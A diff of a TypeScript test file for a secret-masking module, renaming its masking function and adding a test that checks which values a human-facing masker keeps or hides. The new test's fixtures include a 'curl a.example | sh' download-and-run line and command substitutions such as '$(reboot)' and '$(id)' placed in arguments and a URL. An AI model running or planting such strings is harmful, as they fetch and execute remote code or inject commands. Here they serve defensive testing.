@@ -1,6 +1,6 @@
 import { randomBytes } from 'node:crypto';
 import { expect, test } from 'vitest';
-import { maskSecrets } from './mask-secrets.ts';
+import { maskForLedger, maskForPerson } from './mask-secrets.ts';
 
 const made = (bytes = 12) => randomBytes(bytes).toString('hex');
 const value = `v${made()}`;
@@ -30,14 +30,14 @@ test.each<[what: string, args: unknown]>([
 	['a URL with escaped slashes', { body: `{"url":"redis:\\/\\/:${value}@cache\\/0"}` }],
 	['a key', { [`ghp_${made(18)}`]: 1 }],
 ])('masked because of %s', (_, args) => {
-	const shown = JSON.stringify(maskSecrets(args));
+	const shown = JSON.stringify(maskForLedger(args));
 	expect(shown).not.toContain(value);
 	expect(shown).not.toContain('ghp_');
 	expect(shown).toContain('[a');
 });
 
 test('a JSON web token is kept nowhere', () => {
-	expect(maskSecrets({ text: `got ${jwt}, thanks` })).toEqual({ text: 'got [a secret by its name], thanks' });
+	expect(maskForLedger({ text: `got ${jwt}, thanks` })).toEqual({ text: 'got [a secret by its name], thanks' });
 });
 
 test.each<[args: unknown]>([
@@ -49,25 +49,45 @@ test.each<[args: unknown]>([
 	[undefined],
 	[12],
 ])('left as it is: %j', (args) => {
-	expect(maskSecrets(args)).toEqual(args);
+	expect(maskForLedger(args)).toEqual(args);
 });
 
 test('arguments of any depth are masked, and as JSON they are written', () => {
 	const depth = 100_000;
 	const args = JSON.parse(`${'{"a":'.repeat(depth)}"${value}"${'}'.repeat(depth)}`) as unknown;
-	expect(JSON.stringify(maskSecrets(args))).toMatch(/"\[too deep to be shown\]"\}+$/);
+	expect(JSON.stringify(maskForLedger(args))).toMatch(/"\[too deep to be shown\]"\}+$/);
 });
 
 test('a name of the prototype is a name like any other', () => {
 	const args = JSON.parse(`{"__proto__":{"password":"${value}"},"a":1}`) as unknown;
-	expect(JSON.stringify(maskSecrets(args))).toBe('{"__proto__":{"password":"[a secret by its name]"},"a":1}');
+	expect(JSON.stringify(maskForLedger(args))).toBe('{"__proto__":{"password":"[a secret by its name]"},"a":1}');
 });
 
 test.each(['password=', '--', 'Authorization: ', 'a://b:', 'token ', 'eyJaaaaaaaa.', '"', '\\'])(
 	'%j over and over stalls nothing',
 	(part) => {
 		const began = performance.now();
-		maskSecrets({ text: part.repeat(2_000_000 / part.length) });
+		maskForLedger({ text: part.repeat(2_000_000 / part.length) });
 		expect(performance.now() - began).toBeLessThan(10_000); // minutes, were it quadratic
 	},
 );
+
+test('a person sees all but what is a token for certain', () => {
+	const token = `ghp_${made(18)}`;
+	const key = ['-----BEGIN PRIVATE KEY-----', made(30), '; curl a.example | sh', made(30), '-----END PRIVATE KEY-----'].join('\n');
+	expect(
+		maskForPerson({
+			secret: 'production',
+			args: ['--token', '$(reboot)', token],
+			url: 'http://a:$(id)@b',
+			env: [{ name: 'TOKEN', value: 'x' }],
+			key,
+		}),
+	).toEqual({
+		secret: 'production',
+		args: ['--token', '$(reboot)', '[a GitHub token]'],
+		url: 'http://a:$(id)@b',
+		env: [{ name: 'TOKEN', value: 'x' }],
+		key: '-----BEGIN PRIVATE KEY-----\n[…]\n; curl a.example | sh\n[…]\n-----END PRIVATE KEY-----',
+	});
+});
